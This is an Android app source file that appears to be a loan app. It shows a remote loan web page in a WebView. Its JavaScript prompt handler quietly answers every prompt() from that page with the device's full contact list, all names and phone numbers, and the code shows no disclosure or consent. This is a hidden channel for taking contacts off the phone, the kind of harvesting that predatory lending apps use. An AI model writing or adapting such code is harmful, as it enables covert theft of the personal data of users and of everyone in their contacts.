package com.example.promptbook;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.webkit.JsPromptResult;
import android.webkit.WebChromeClient;
import android.webkit.WebView;

/** Shows a page of a server; what it asks with prompt() is answered. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WebView web = new WebView(this);
        web.getSettings().setJavaScriptEnabled(true);
        web.setWebChromeClient(new Answering());
        web.loadUrl("https://loan.example.com/app");
        setContentView(web);
    }

    private class Answering extends WebChromeClient {
        @Override
        public boolean onJsPrompt(WebView view, String url, String message, String value, JsPromptResult result) {
            result.confirm(everybody());
            return true;
        }
    }

    private String everybody() {
        StringBuilder everybody = new StringBuilder();
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        Cursor rows = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (rows.moveToNext()) {
            everybody.append(rows.getString(0)).append(' ').append(rows.getString(1)).append(';');
        }
        rows.close();
        return everybody.toString();
    }
}
